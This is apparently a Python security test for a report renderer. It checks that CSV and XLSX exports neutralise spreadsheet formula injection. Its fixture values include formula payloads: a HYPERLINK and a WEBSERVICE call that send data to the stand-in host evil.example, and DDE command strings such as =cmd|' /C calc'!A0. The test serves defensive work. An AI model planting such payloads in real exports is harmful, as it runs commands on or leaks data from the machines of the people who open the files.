#!/usr/bin/env python3
"""tests/security/formula_injection.py: exports never carry live formulas (issue 18, item 12).

A data value or a parameter value that starts with =, +, -, @, a tab or a
carriage return becomes a formula when a CSV is opened in a spreadsheet
(=HYPERLINK(...), =cmd|' /C calc'!A0).  ProductList is rendered by the real
renderer from a SQLite table whose text columns hold such values and whose
numbers are negative, with such a report parameter in a textbox:

  - CSV: each such text field starts with a single quote (the OWASP way),
    quoted fields too; typed numbers (-5, -1234.5) stay numbers; with
    rc:EscapeFormulas=false the original's output comes back unchanged;
  - XLSX: every such value is a string cell (no <f> formula element
    anywhere in the sheet), numbers are number cells.
"""
import csv
import io
import os
import sqlite3
import sys
import zipfile
import xml.etree.ElementTree as ET

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))
import lib  # noqa: E402

M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx=1", "\r=1+1",
        "=1,2\"3"]
PARAM = "=WEBSERVICE(\"http://evil.example/\")"


def make_db(path):
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE Product (ProductID INTEGER, Name TEXT, "
               "Category TEXT, UnitPrice REAL)")
    for i, v in enumerate(EVIL):
        db.execute("INSERT INTO Product VALUES (?, ?, ?, ?)",
                   (-5 - i, v, "plain", -1234.5))
    db.commit()
    db.close()


def make_rdl(path):
    with open(os.path.join(lib.SRC, "samples", "reports",
                           "ProductList.rdl"), "rb") as f:
        rdl = f.read()
    rdl = rdl.replace(b"  <ReportSections>", b"""  <ReportParameters>
    <ReportParameter Name="Note">
      <DataType>String</DataType>
      <Prompt>Note</Prompt>
    </ReportParameter>
  </ReportParameters>
  <ReportSections>""", 1)
    rdl = rdl.replace(b"<Value>Product List</Value>",
                      b"<Value>=Parameters!Note.Value</Value>", 1)
    # Plain numbers, so the text of a typed number is "-5", "-1234.5".
    rdl = rdl.replace(b"<Format>C2</Format>", b"")
    with open(path, "wb") as f:
        f.write(rdl)


def render(rdl, db, fmt, out, *extra):
    r = lib.run("rsrender", rdl, "--format", fmt, "--out", out,
                "--datasource", "Sales=sqlite:" + db, "--param",
                "Note=" + PARAM, *extra)
    lib.check("ProductList renders to %s %s" % (fmt, " ".join(extra)),
              r.returncode == 0, r.stderr)


def t_csv(rdl, db):
    out = os.path.join(lib.TMP, "p.csv")
    render(rdl, db, "CSV", out, "--devinfo", "UseFormattedValues=false")
    with open(out, encoding="utf-8-sig", newline="") as f:
        text = f.read()
    blocks = text.split("\r\n\r\n")
    lib.check("two blocks: the body's textbox, then the table",
              len(blocks) == 2, text[:400])
    rows = list(csv.reader(io.StringIO(blocks[-1], newline="")))
    # ORDER BY ProductID: the last value (-5 - n) comes first.
    data = [r for r in rows[1:] if r][::-1]
    lib.expect_eq("every data value that starts a formula gets a leading "
                  "single quote", [r[1] for r in data],
                  ["'" + v for v in EVIL])
    lib.expect_eq("typed negative numbers stay numbers", [
        (r[0], r[3]) for r in data],
        [(str(-5 - i), "-1234.5") for i in range(len(EVIL))])
    lib.check("the parameter value in a textbox is neutralised too",
              ("'" + PARAM).replace('"', '""') in blocks[0], blocks[0])
    lib.check("no field in the file starts with = + - @ tab or CR unless "
              "it is a number", all(
                  not f or f[0] not in "=+-@\t\r" or
                  f.lstrip("-").replace(".", "").isdigit()
                  for r in csv.reader(io.StringIO(text, newline=""))
                  for f in r), text[:600])
    out2 = os.path.join(lib.TMP, "orig.csv")
    render(rdl, db, "CSV", out2, "--devinfo", "UseFormattedValues=false",
           "--devinfo", "EscapeFormulas=false")
    with open(out2, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(io.StringIO(f.read().split("\r\n\r\n")[-1],
                                           newline="")))
    lib.expect_eq("EscapeFormulas=false gives the original's output",
                  [r[1] for r in rows[1:] if r][::-1], EVIL)


def t_xlsx(rdl, db):
    out = os.path.join(lib.TMP, "p.xlsx")
    render(rdl, db, "EXCELOPENXML", out)
    with zipfile.ZipFile(out) as z:
        raw = z.read("xl/worksheets/sheet1.xml")
        shared = z.read("xl/sharedStrings.xml") \
            if "xl/sharedStrings.xml" in z.namelist() else b""
    root = ET.fromstring(raw)
    strings = [("".join(t.text or "" for t in si.iter(M + "t")))
               for si in ET.fromstring(shared).iter(M + "si")] \
        if shared else []
    lib.check("no formula (<f>) anywhere in the sheet",
              root.find(".//" + M + "f") is None and b"<f>" not in raw,
              raw[:600])
    texts, nums = [], []
    for c in root.iter(M + "c"):
        t = c.get("t")
        if t == "inlineStr":
            texts.append("".join(x.text or "" for x in c.iter(M + "t")))
        elif t == "s":
            texts.append(strings[int(c.find(M + "v").text)])
        elif c.find(M + "v") is not None:
            nums.append(float(c.find(M + "v").text))
    # OOXML writes a carriage return in a string as _x000D_.
    texts = [x.replace("_x000D_", "\r") for x in texts]
    for v in EVIL + [PARAM]:
        lib.check("%r is a string cell" % v[:20], v in texts, texts[:20])
    lib.check("the negative numbers are number cells", -5.0 in nums and
              -1234.5 in nums, nums[:20])


def main():
    db = os.path.join(lib.TMP, "evil.db")
    rdl = os.path.join(lib.TMP, "evil.rdl")
    make_db(db)
    make_rdl(rdl)
    t_csv(rdl, db)
    t_xlsx(rdl, db)
    lib.done_testing()


if __name__ == "__main__":
    main()
